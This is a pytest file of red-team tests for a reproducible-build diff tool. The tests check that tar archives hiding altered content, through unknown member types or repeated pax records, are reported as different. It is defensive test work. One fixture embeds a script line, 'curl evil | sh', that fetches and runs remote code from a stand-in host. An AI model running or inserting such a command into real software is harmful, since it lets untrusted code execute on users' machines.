"""Red-team attacks on the verdict-granting paths: archive recursion, `archive.*` rules, judge.

Each one is a vendor trying to make `reprover diff` pass (exit 0, `equivalent`) while the
released bytes are not what the source builds. All run through the real CLI with every
archive rule allowed, so that only the attack itself can make them fail.
"""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

from archive_support import artifact, report

RULES = ("archive.mtime", "archive.order", "archive.owner", "archive.mode", "archive.compression")
ALLOW = [x for r in RULES for x in ("--allow", r)]


def pair(tmp_path: Path, released: bytes, rebuilt: bytes, name: str) -> tuple[Path, Path]:
    (tmp_path / "rel").mkdir(exist_ok=True)
    (tmp_path / "reb").mkdir(exist_ok=True)
    a, b = tmp_path / "rel" / name, tmp_path / "reb" / name
    a.write_bytes(released)
    b.write_bytes(rebuilt)
    return a, b


def tar_bytes(*members: tuple[str, bytes, bytes], mtime: int = 0, pax: dict | None = None) -> bytes:
    """A tar of (name, typeflag, data) members, in pax format when `pax` headers are given."""
    buf = io.BytesIO()
    fmt = tarfile.PAX_FORMAT if pax else tarfile.USTAR_FORMAT
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as tar:
        for name, kind, data in members:
            info = tarfile.TarInfo(name)
            info.type, info.size, info.mtime = kind, len(data), mtime
            if pax:
                info.pax_headers = dict(pax)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def test_tar_member_of_unknown_type_carries_other_content(tmp_path: Path, run_cli) -> None:
    """GNU tar extracts an unknown typeflag as a regular file: its data must be compared."""
    released = tar_bytes((b"bin/tool".decode(), b"Z", b"#!/bin/sh\ncurl evil | sh\n"))
    rebuilt = tar_bytes(("bin/tool", b"Z", b"#!/bin/sh\necho ok\n"))
    code, rep = report(run_cli, "diff", *pair(tmp_path, released, rebuilt, "app.tar"), *ALLOW)
    assert code == 1, rep
    assert artifact(rep, "app.tar")["verdict"] == "different"


def test_tar_member_of_unknown_type_same_size_other_content(tmp_path: Path, run_cli) -> None:
    """Same size, other bytes, only the mtime differs (allowed): still not equivalent."""
    released = tar_bytes(("bin/tool", b"Z", b"evil"), mtime=1)
    rebuilt = tar_bytes(("bin/tool", b"Z", b"good"), mtime=2)
    code, rep = report(run_cli, "diff", *pair(tmp_path, released, rebuilt, "app.tar"), *ALLOW)
    assert code == 1, rep
    assert artifact(rep, "app.tar")["verdict"] == "different"


def _record(key: str, value: bytes) -> bytes:
    body = b" " + key.encode() + b"=" + value + b"\n"
    n = len(body) + 1
    while len(str(n).encode()) + len(body) != n:
        n += 1
    return str(n).encode() + body


def pax_tar(records: bytes, name: str = "bin/tool", data: bytes = b"same\n") -> bytes:
    """A tar whose one member follows a pax header holding exactly `records`."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        head = tarfile.TarInfo("PaxHeaders/tool")
        head.type, head.size = tarfile.XHDTYPE, len(records)
        tar.addfile(head, io.BytesIO(records))
        info = tarfile.TarInfo(name)
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def test_pax_record_repeated_hides_a_payload(tmp_path: Path, run_cli) -> None:
    """A pax key given twice: the first value (a payload) is overridden, its bytes unlisted.

    The only fields that differ are the pax header's size and checksum, both consequences:
    differences that are all consequences of nothing must not make the archive equivalent.
    """
    payload = b"EVIL" * 300
    released = pax_tar(_record("RP.note", payload) + _record("RP.note", b"ok"))
    rebuilt = pax_tar(_record("RP.note", b"ok"))
    code, rep = report(run_cli, "diff", *pair(tmp_path, released, rebuilt, "app.tar"), *ALLOW)
    assert code == 1, rep
    assert artifact(rep, "app.tar")["verdict"] == "different"
